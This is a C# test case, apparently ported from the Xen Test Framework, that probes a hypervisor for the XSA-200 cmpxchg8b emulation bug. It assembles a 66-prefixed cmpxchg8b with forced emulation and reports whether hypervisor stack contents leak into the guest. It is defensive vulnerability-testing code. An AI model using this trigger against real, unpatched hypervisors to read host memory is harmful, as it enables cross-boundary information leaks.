using Xtf.Core.Cpu;
using Xtf.Core.Guest;
using Xtf.Core.Guest.Runtime;
using Xtf.Core.Testing;
using static Iced.Intel.AssemblerRegisters;

namespace Xtf.TestCases.Xsa200;

/// <summary>
/// XSA-200 (XTF tests/xsa-200): before XSA-200 the instruction emulator incorrectly honoured the
/// legacy operand-size override prefix for <c>cmpxchg8b</c>. It then read only a subset of the
/// memory operand but wrote back all the register state, leaking part of the hypervisor stack
/// into the guest. (In the Xen 4.8 development cycle the bug was mitigated by accidentally making
/// such an instruction raise #UD unconditionally.)
///
/// A <c>66 cmpxchg8b</c> whose comparison fails (memory holds 0xc2c2c2c2c2c2c2c2, EDX:EAX
/// 0x0123456789abcdef) must load the whole memory operand into EDX:EAX (SDM vol. 2, CMPXCHG8B:
/// the 66 prefix does not change the operand). As stack rubble might match 0xc2, it is repeated
/// up to 10 times. Needs the forced emulation prefix, as XTF's does.
/// </summary>
[XtfTest("xsa-200", Category.Xsa, Environments.Hvm32, Title = "XSA-200 PoC", Guards = ["xsa-200"])]
public sealed class Xsa200 : TestCase
{
    private const ulong Mem = 0xc2c2c2c2c2c2c2c2;
    private const ulong Old = 0x0123456789abcdef;
    private const ulong New = 0xfedcba9876543210;

    /// <summary>The memory operand, in free RAM above the image.</summary>
    private const uint Operand = 0x300000;

    protected override bool NeedsFep => true;

    public override void Main()
    {
        for (int i = 0; i < 10; i++)
        {
            var r = ExecDetailed(a =>
            {
                a.mov(__dword_ptr[Operand], unchecked((uint)Mem));
                a.mov(__dword_ptr[Operand + 4], (uint)(Mem >> 32));
                a.mov(eax, unchecked((uint)Old));
                a.mov(edx, (uint)(Old >> 32));
                a.mov(ebx, unchecked((uint)New));
                a.mov(ecx, (uint)(New >> 32));
                a.Fep();
                a.db(0x66);
                a.cmpxchg8b(__qword_ptr[Operand]);
            });

            if (r.Fault == ExInfo.Fault(X86Vector.UD))
            {
                Success("Success: Not vulnerable to XSA-200\n");
                return;
            }

            if (r.Fault != ExInfo.None)
            {
                Error($"Error: Unexpected fault {r.Fault.Raw:x8}\n");
                return;
            }

            ulong prev = ((ulong)r.Edx << 32) | r.Eax;
            if (prev != Mem)
            {
                Failure("Fail: Hypervisor stack leaked into guest\n");
                return;
            }
        }

        Success("Success: Probably not vulnerable to XSA-200\n");
    }
}
